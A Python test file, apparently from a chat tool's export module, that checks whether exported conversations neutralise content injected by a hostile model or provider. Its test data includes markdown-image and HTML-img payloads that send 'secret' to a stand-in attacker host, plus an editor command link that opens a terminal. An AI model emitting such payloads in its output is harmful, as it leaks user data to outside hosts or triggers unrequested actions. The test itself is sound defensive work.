"""What a hostile model or provider leaves in a conversation, as it is written out."""

from __future__ import annotations

import pytest

from polypilot.chat import events
from polypilot.chat.export import exported
from polypilot.chat.values import Conversation, SessionInfo, ShownMessage
from polypilot_prompts.neutral import neutral

_PAYLOADS = (
    "![x](https://evil.example/?q=secret)",
    "<img src=https://evil.example/?q=secret>",
    "[run](command:workbench.action.terminal.new)",
)


@pytest.mark.parametrize("payload", _PAYLOADS)
@pytest.mark.parametrize("kind", [events.Thought, events.Refusal])
def test_an_export_loads_nothing(payload: str, kind: type[events.Thought | events.Refusal]) -> None:
    made = (kind(payload[:2]), kind(payload[2:] + "\n\n```\n"), events.Text("and\n"), kind(payload))
    info = SessionInfo("s", payload, "team", payload, 1, 0.0, 0.0)
    whole = exported(Conversation(info, (ShownMessage("m", "assistant", "", 0.0, made),)))
    lines = [line.removeprefix("> ") for line in whole.splitlines()]
    assert not any(line.removeprefix("# ") == payload for line in lines)
    assert sum(neutral(payload) == line for line in lines) == 2
